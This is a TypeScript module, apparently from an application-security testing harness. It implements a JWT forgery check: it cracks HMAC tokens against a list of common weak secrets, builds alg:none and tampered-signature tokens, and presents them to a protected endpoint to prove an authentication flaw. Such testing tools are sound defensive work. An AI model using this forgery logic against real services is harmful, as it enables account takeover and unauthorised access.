import { createHmac } from 'node:crypto'
import type { Exchange } from '#bench/findings'
import { succeeded } from '../http/answer.ts'
import { CookieJar } from '../http/jar.ts'
import type { Endpoint } from '../inventory/endpoint.ts'
import type { Lab } from '../lab.ts'
import type { AttackClass, Proof, Trial } from '../proof.ts'
import { Visitor } from '../session/visitor.ts'
import { gateOf } from './gate.ts'

/** Secrets of examples and tutorials. */
const weakSecrets = [
  'secret',
  'password',
  'changeme',
  'change-me',
  'change_me',
  'secret-key',
  'secretkey',
  'secret_key',
  'your-secret-key',
  'your_secret_key',
  'yoursecretkey',
  'supersecret',
  'super-secret',
  'super-secret-key',
  'supersecretkey',
  'super_secret_key',
  'my-secret-key',
  'mysecretkey',
  'my_secret_key',
  'mysecret',
  'jwt-secret',
  'jwt_secret',
  'jwtsecret',
  'jwt-secret-key',
  'jwt_secret_key',
  'your-jwt-secret',
  'your_jwt_secret',
  'your-super-secret-jwt-key',
  'dev',
  'development',
  'dev-secret',
  'dev-secret-key',
  'dev_secret_key',
  'test',
  'key',
  'private',
  'token',
  'admin',
  '123456',
  '12345678',
  'qwerty',
  'default',
  'example',
  'hello',
  'shhhhh',
  'keyboard cat',
  'insecure',
  'a',
  '',
]

/** A JSON Web Token in its parts. */
export interface Token {
  readonly header: Readonly<Record<string, unknown>>
  readonly payload: Readonly<Record<string, unknown>>
  /** Header and payload as they are signed. */
  readonly signed: string
  readonly signature: string
}

/** Takes a token apart; undefined when it is none. */
export function tokenOf(text: string): Token | undefined {
  const [header = '', payload = '', signature, ...rest] = text.split('.')
  if (signature === undefined || rest.length > 0 || !header.startsWith('eyJ')) return undefined
  const parts = [header, payload].map(decodedPart)
  const [first, second] = parts
  return first === undefined || second === undefined
    ? undefined
    : { header: first, payload: second, signed: `${header}.${payload}`, signature }
}

/** The weak secret a token is signed with (HS256, HS384, HS512), if it is one. */
export function crack({ header, signed, signature }: Token): string | undefined {
  const hash = ({ HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' } as const)[String(header['alg'])]
  if (hash === undefined) return undefined
  return weakSecrets.find((secret) => createHmac(hash, secret).update(signed).digest('base64url') === signature)
}

/** Demands that a token of our own making opens what a broken token does not. */
export const jwtForgery: AttackClass = {
  id: 'jwt-forgery',
  async attack(lab): Promise<Trial> {
    const { first } = lab.visitors
    const held = first?.bearer ?? first?.jar.all().find(({ value }) => tokenOf(value) !== undefined)?.value
    const token = held === undefined ? undefined : tokenOf(held)
    if (first === undefined || held === undefined || token === undefined)
      return {
        proofs: [],
        tried: 0,
        unmade: {
          outcome: 'not_applicable',
          reason: first === undefined ? 'Nobody could be signed in.' : 'The app issues no JSON Web Tokens.',
        },
      }
    const gate = await gateOf(lab)
    if (gate === undefined)
      return {
        proofs: [],
        tried: 0,
        unmade: { outcome: 'error', reason: 'No endpoint was found that demands the token.' },
      }
    const proof = await forge(lab, gate, first, held, token)
    return { proofs: proof === undefined ? [] : [proof], tried: 1 }
  },
}

async function forge(lab: Lab, gate: Endpoint, first: Visitor, held: string, token: Token): Promise<Proof | undefined> {
  const garbage = await present(
    lab,
    gate,
    first,
    held,
    `${lab.word()}.${lab.word()}.${lab.word()}`,
    'shows a token that is none',
  )
  if (succeeded(garbage)) return undefined
  const payload = encodedPart({ ...token.payload, assay: lab.word() })
  const none = `${encodedPart({ ...token.header, alg: 'none' })}.${payload}.`
  const unsigned = `${token.signed.split('.')[0] ?? ''}.${payload}.${token.signature}`
  const secret = crack(token)
  const forgeries: (readonly [family: string, forged: string, says: string])[] = [
    ['unverified', unsigned, 'The signature of tokens is not verified: a changed token is accepted.'],
    ['none', none, 'Tokens without a signature (alg: none) are accepted.'],
  ]
  if (secret !== undefined)
    forgeries.push([
      'weak secret',
      signedWith(secret, token, payload),
      `Tokens are signed with the secret "${secret}", which is in every list: a token of our own is accepted.`,
    ])
  for (const [family, forged, message] of forgeries) {
    const exchange = await present(lab, gate, first, held, forged, 'shows a forged token')
    if (!succeeded(exchange)) continue
    return { rule: 'jwt-forgery', endpoint: gate, message, exchanges: [exchange, garbage], family }
  }
  return undefined
}

/** The gate's answer to somebody who holds the given token in place of their own. */
function present(
  lab: Lab,
  gate: Endpoint,
  first: Visitor,
  held: string,
  token: string,
  purpose: string,
): Promise<Exchange> {
  const cookies = first.jar.all().map((cookie) => (cookie.value === held ? { ...cookie, value: token } : cookie))
  const other = new Visitor('an attacker', first.person, new CookieJar(cookies))
  if (first.bearer !== undefined) other.bearer = token
  return lab.submit(gate, purpose, { keep: false }, other)
}

function signedWith(secret: string, { header }: Token, payload: string): string {
  const signed = `${encodedPart({ ...header, alg: 'HS256' })}.${payload}`
  return `${signed}.${createHmac('sha256', secret).update(signed).digest('base64url')}`
}

function encodedPart(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

function decodedPart(part: string): Record<string, unknown> | undefined {
  try {
    const value: unknown = JSON.parse(Buffer.from(part, 'base64url').toString())
    return typeof value === 'object' && value !== null ? Object.fromEntries(Object.entries(value)) : undefined
  } catch (error) {
    if (error instanceof SyntaxError) return undefined
    throw error
  }
}
